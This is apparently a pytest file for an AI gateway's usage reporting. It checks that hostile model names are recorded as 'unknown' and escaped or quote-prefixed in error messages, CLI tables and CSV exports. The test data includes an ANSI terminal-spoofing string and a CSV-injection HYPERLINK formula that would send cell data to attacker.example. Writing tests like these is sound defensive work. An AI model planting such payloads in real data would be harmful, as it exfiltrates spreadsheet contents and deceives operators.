"""A tenant's text never reaches operators' usage reports as live text: a refused model is
recorded as `unknown`, and `gateway usage` shows older records' names escaped."""

from __future__ import annotations

import asyncio
import csv
import io
import unicodedata
import uuid
from datetime import UTC, datetime

import pytest
from sqlalchemy import insert
from sqlalchemy.ext.asyncio import create_async_engine

from gateway.usage.models import UsageRecord
from tests.accounting import bearer, new_account, wait_for_records
from tests.e2e.test_cli_and_migrations import gateway_cli
from tests.gateway_fixtures import GatewayProcess

pytestmark = [pytest.mark.triton, pytest.mark.each_database]

HOSTILE = "\x1b[2J\x1b[31mALL USAGE DATA LOST\nfake_row  999,999"
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Totals")'


def refused_chat(gateway: GatewayProcess, account: tuple[str, str], model: str) -> dict[str, str]:
    """The OpenAI API's error for a chat naming `model`: the name arrives exactly as sent."""
    with gateway.client() as client:
        reply = client.post(
            f"/client/v4/accounts/{account[0]}/ai/v1/chat/completions",
            json={"model": model, "messages": [{"role": "user", "content": "hi"}]},
            headers=bearer(account[1]),
        )
    assert reply.status_code == 404, reply.text
    return reply.json()["error"]  # type: ignore[no-any-return]


def controls(text: str) -> set[str]:
    return {char for char in text if unicodedata.category(char)[0] == "C"}


async def _insert_record(database_url: str, account_id: str, model: str) -> None:
    engine = create_async_engine(database_url)
    try:
        async with engine.begin() as connection:
            await connection.execute(
                insert(UsageRecord).values(
                    id=uuid.uuid4().hex,
                    account_id=account_id,
                    token_id="old",
                    model=model,
                    status="rejected",
                    prompt_tokens=0,
                    completion_tokens=0,
                    time_to_first_token_ms=None,
                    duration_ms=0.0,
                    started_at=datetime.now(UTC),
                )
            )
    finally:
        await engine.dispose()


def account_with_record(gateway: GatewayProcess, model: str) -> str:
    """An account with one record naming `model`, as one written before the fix would."""
    account_id = gateway.create_account()
    asyncio.run(_insert_record(gateway.database_url, account_id, model))
    return account_id


def test_a_run_refused_for_an_unknown_model_is_recorded_as_unknown(
    gateway: GatewayProcess,
) -> None:
    account = new_account(gateway)
    refused_chat(gateway, account, HOSTILE)
    [record] = wait_for_records(gateway, 1, account_id=account[0])
    assert (record["status"], record["model"]) == ("rejected", "unknown")


def test_the_404_for_an_unknown_model_shows_its_name_escaped(gateway: GatewayProcess) -> None:
    error = refused_chat(gateway, new_account(gateway), HOSTILE)
    assert repr(HOSTILE) in error["message"]
    assert controls(error["message"]) == set()


def test_the_404_for_an_unknown_model_shows_at_most_200_characters_of_it(
    gateway: GatewayProcess,
) -> None:
    error = refused_chat(gateway, new_account(gateway), "m" * 256)
    assert f"'{'m' * 200}'…" in error["message"]
    assert "m" * 201 not in error["message"]


def test_cli_usage_table_shows_a_model_escaped_on_its_own_line(gateway: GatewayProcess) -> None:
    account_id = account_with_record(gateway, HOSTILE)
    table = gateway_cli(gateway, "usage", "--group-by", "model", "--account", account_id)
    assert table.returncode == 0, table.stderr
    lines = table.stdout.splitlines()
    assert controls(table.stdout.replace("\n", "")) == set()
    assert len(lines) == 6  # period, header, rule, the one row, rule, total
    assert lines[3].startswith(repr(HOSTILE)[1:-1])


def test_cli_usage_csv_shows_a_model_escaped(gateway: GatewayProcess) -> None:
    account_id = account_with_record(gateway, HOSTILE)
    arguments = ("usage", "--group-by", "model", "--account", account_id, "--csv")
    as_csv = gateway_cli(gateway, *arguments)
    assert as_csv.returncode == 0, as_csv.stderr
    assert controls(as_csv.stdout.replace("\n", "")) == set()
    [row] = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert row["model"] == repr(HOSTILE)[1:-1]


def test_cli_usage_csv_puts_a_quote_before_a_formula(gateway: GatewayProcess) -> None:
    account_id = account_with_record(gateway, FORMULA)
    arguments = ("usage", "--group-by", "model", "--account", account_id, "--csv")
    as_csv = gateway_cli(gateway, *arguments)
    assert as_csv.returncode == 0, as_csv.stderr
    [row] = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert row["model"] == f"'{FORMULA}"


def test_pending_records_are_in_the_admin_usage_report_only(gateway: GatewayProcess) -> None:
    """They count every account's records on the replica: no tenant's business."""
    account = new_account(gateway)
    with gateway.client() as client:
        own = client.get(
            f"/client/v4/accounts/{account[0]}/ai/usage", headers=bearer(account[1])
        ).json()["result"]
        admin = client.get("/admin/v1/usage", headers=gateway.admin_headers).json()["result"]
    assert "pending_records" not in own
    assert isinstance(admin["pending_records"], int)
